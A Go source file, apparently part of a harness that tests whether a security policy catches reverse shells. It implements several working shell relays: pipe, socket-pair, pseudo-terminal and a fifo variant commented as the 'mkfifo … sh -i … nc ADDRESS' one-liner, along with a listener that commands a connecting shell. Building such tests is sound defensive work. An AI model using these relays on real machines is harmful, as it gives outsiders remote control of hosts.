package main

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

func init() {
	attacks["-i"] = func([]string) error { return fakeShell() }
	attacks["relay"] = relay
	attacks["copy"] = func([]string) error { _, err := io.Copy(os.Stdout, os.Stdin); return err }
	attacks["nc"] = netcat
	attacks["knock"] = knock
	attacks["commander"] = commander
}

// isShell says that this program was started as a shell without a word of what
// to do.
func isShell() bool { return len(os.Args) == 1 && filepath.Base(os.Args[0]) == "sh" }

// fakeShell does what it is told, line by line: it says so.
func fakeShell() error {
	lines := bufio.NewScanner(os.Stdin)
	for lines.Scan() {
		if s := strings.TrimSpace(lines.Text()); s != "" {
			fmt.Println("shell-ran", s)
		}
	}
	return nil
}

// relay FORM ADDRESS SHELL ... puts a shell into the hands of whoever is at an
// address, with this process or others in between. What only time tells is
// waited for; where the policy audits, nobody says when it was told.
func relay(args []string) error {
	form, addr, command := args[0], args[1], args[2:]
	form, mode, slow := strings.Cut(form, "+")
	patience := time.Minute
	if mode == "audit" {
		patience = 5 * time.Second
	}
	_ = os.Remove(received) // of an attack before
	switch form {
	case "pty":
		return terminalRelay(addr, command)
	case "fifo":
		return fifoRelay(addr, command)
	}
	c := exec.Command(command[0], command[1:]...)
	c.Stderr = os.Stderr
	near, err := wire(c, form == "pair")
	if err != nil {
		return err
	}
	early := form == "late" || form == "accept-late"
	if early {
		if err := c.Start(); err != nil {
			return err
		}
		time.Sleep(200 * time.Millisecond)
	}
	conn, told, err := reach(form, addr)
	if err != nil {
		if early {
			near.Close()
			fmt.Println("shell", c.Wait())
		}
		return err
	}
	order, _ := io.ReadAll(io.LimitReader(conn, 5))
	if form == "script" { // all there is to do is there before the shell
		near.Write(order)
		near.CloseWrite()
	}
	if !early {
		if err := c.Start(); err != nil {
			return err
		}
	}
	done := make(chan error, 1)
	go func() { done <- c.Wait() }()
	if slow {
		select {
		case err := <-done:
			fmt.Println("shell", err)
			return nil
		case <-time.After(patience):
		}
	}
	near.Write(append(order, '\n'))
	first := make([]byte, 100)
	n, _ := near.Read(first) // or it dies
	near.CloseWrite()
	answer, _ := io.ReadAll(near)
	conn.Write(append(first[:n], answer...))
	conn.Close()
	err = <-done
	fmt.Println("shell", err)
	switch {
	case told != nil:
		fmt.Print(<-told)
	case err == nil:
		awaitReceived()
	}
	return nil
}

// ends is our side of a shell's standard streams.
type ends struct {
	r, w  *os.File
	given []*os.File // the shell's side
}

func (e *ends) Read(b []byte) (int, error) {
	for _, f := range e.given {
		f.Close() // the shell has its own
	}
	e.given = nil
	return e.r.Read(b)
}
func (e *ends) Write(b []byte) (int, error) { return e.w.Write(b) }
func (e *ends) CloseWrite() {
	if e.w == e.r {
		syscall.Shutdown(int(e.w.Fd()), syscall.SHUT_WR)
		return
	}
	e.w.Close()
}
func (e *ends) Close() { e.r.Close(); e.w.Close() }

// wire gives a command pipes, or a pair of sockets.
func wire(c *exec.Cmd, pair bool) (*ends, error) {
	if pair {
		fds, err := syscall.Socketpair(syscall.AF_UNIX, syscall.SOCK_STREAM|syscall.SOCK_CLOEXEC, 0)
		if err != nil {
			return nil, err
		}
		near, far := os.NewFile(uintptr(fds[0]), "near"), os.NewFile(uintptr(fds[1]), "far")
		c.Stdin, c.Stdout = far, far
		return &ends{near, near, []*os.File{far}}, nil
	}
	inR, inW, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	outR, outW, err := os.Pipe()
	if err != nil {
		return nil, err
	}
	c.Stdin, c.Stdout = inR, outW
	return &ends{outR, inW, []*os.File{inR, outW}}, nil
}

// reach connects, or is connected to by another process, whose words come later.
func reach(form, addr string) (*net.TCPConn, chan string, error) {
	switch form {
	case "accept", "accept-late":
	case "nobody":
		return nil, nil, fmt.Errorf("nobody is asked")
	default:
		c, err := net.Dial("tcp4", addr)
		if err != nil {
			return nil, nil, err
		}
		return c.(*net.TCPConn), nil, nil
	}
	l, err := net.Listen("tcp4", addr)
	if err != nil {
		return nil, nil, err
	}
	told := make(chan string, 1)
	go func() {
		b, _ := exec.Command("/proc/self/exe", "knock", addr).CombinedOutput()
		told <- string(b)
	}()
	c, err := l.Accept()
	l.Close()
	if err != nil {
		return nil, nil, err
	}
	return c.(*net.TCPConn), told, nil
}

// knock connects, gives one order, and says what comes back.
func knock(args []string) error {
	c, err := net.Dial("tcp4", args[0])
	if err != nil {
		return err
	}
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	c.Write([]byte("hello"))
	c.(*net.TCPConn).CloseWrite()
	b, _ := io.ReadAll(c)
	fmt.Println("told", string(b))
	return nil
}

// terminalRelay is python's pty.spawn on a connection. ADDRESS "-": on none.
func terminalRelay(addr string, command []string) error {
	var conn net.Conn
	if addr != "-" {
		var err error
		if conn, err = net.Dial("tcp4", addr); err != nil {
			return err
		}
	}
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR, 0)
	if err != nil {
		return err
	}
	var n, unlock int32
	for req, at := range map[uintptr]*int32{0x40045431: &unlock, 0x80045430: &n} { // TIOCSPTLCK, TIOCGPTN
		if _, _, e := syscall.Syscall(syscall.SYS_IOCTL, master.Fd(), req, uintptr(unsafe.Pointer(at))); e != 0 {
			return e
		}
	}
	slave, err := os.OpenFile("/dev/pts/"+strconv.Itoa(int(n)), os.O_RDWR|syscall.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	c := exec.Command(command[0], command[1:]...)
	c.Stdin, c.Stdout, c.Stderr = slave, slave, slave
	c.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true}
	if err := c.Start(); err != nil {
		return err
	}
	slave.Close()
	b := []byte("nobody")
	if conn != nil {
		b, _ = io.ReadAll(io.LimitReader(conn, 5))
	}
	master.Write(append(b, "\n\x04"...))
	answer, _ := io.ReadAll(master) // EIO when the shell is gone
	err = c.Wait()
	fmt.Println("shell", err)
	if conn == nil {
		fmt.Print(string(answer))
		return nil
	}
	conn.Write(answer)
	conn.Close()
	if err == nil {
		awaitReceived()
	}
	return nil
}

// fifoRelay is: mkfifo f; cat f | sh -i 2>&1 | nc ADDRESS > f
func fifoRelay(addr string, command []string) error {
	name := filepath.Join(os.TempDir(), "limpet-fifo-"+strconv.Itoa(os.Getpid()))
	if err := syscall.Mkfifo(name, 0o600); err != nil {
		return err
	}
	both, err := os.OpenFile(name, os.O_RDWR, 0) // so that no open waits
	if err != nil {
		return err
	}
	r, err := os.Open(name)
	if err != nil {
		return err
	}
	w, err := os.OpenFile(name, os.O_WRONLY, 0)
	if err != nil {
		return err
	}
	os.Remove(name)
	shell := exec.Command(command[0], command[1:]...)
	near, err := wire(shell, false)
	if err != nil {
		return err
	}
	cat, nc := exec.Command("/proc/self/exe", "copy"), exec.Command("/proc/self/exe", "nc", addr)
	cat.Stdin, cat.Stdout = r, near.w
	nc.Stdin, nc.Stdout = near.r, w
	for _, c := range []*exec.Cmd{cat, shell, nc} {
		if err := c.Start(); err != nil {
			return err
		}
		time.Sleep(100 * time.Millisecond)
	}
	both.Close()
	r.Close()
	w.Close()
	near.Close()
	for _, f := range near.given {
		f.Close()
	}
	time.AfterFunc(10*time.Second, func() { cat.Process.Kill() })
	fmt.Println("nc", nc.Wait())
	err = shell.Wait()
	fmt.Println("shell", err)
	cat.Wait()
	if err == nil {
		awaitReceived()
	}
	return nil
}

// netcat carries its streams to and from a connection.
func netcat(args []string) error {
	c, err := net.Dial("tcp4", args[0])
	if err != nil {
		return err
	}
	order, _ := io.ReadAll(io.LimitReader(c, 5))
	os.Stdout.Write(append(order, '\n'))
	answer := make([]byte, 100)
	n, err := os.Stdin.Read(answer)
	c.Write(answer[:n])
	os.Stdout.Close()
	c.Close()
	return err
}

// commander FILE ADDRESS SHELL ... waits at an address and tells a shell that
// connects there by itself what to do; the shell reads from FILE at first.
func commander(args []string) error {
	l, err := net.Listen("tcp", args[1])
	if err != nil {
		return err
	}
	in, err := os.Open(args[0])
	if err != nil {
		return err
	}
	c := exec.Command(args[2], args[3:]...)
	c.Stdin, c.Stdout, c.Stderr = in, os.Stdout, os.Stderr
	if err := c.Start(); err != nil {
		return err
	}
	conn, err := l.Accept()
	if err != nil {
		return err
	}
	_ = conn.SetReadDeadline(time.Now().Add(3 * time.Second)) // nobody says when it was looked at
	if _, err = conn.Read(make([]byte, 1)); os.IsTimeout(err) {
		fmt.Fprintln(conn, "echo shell-ran; exit")
	}
	fmt.Println("shell", c.Wait())
	return nil
}
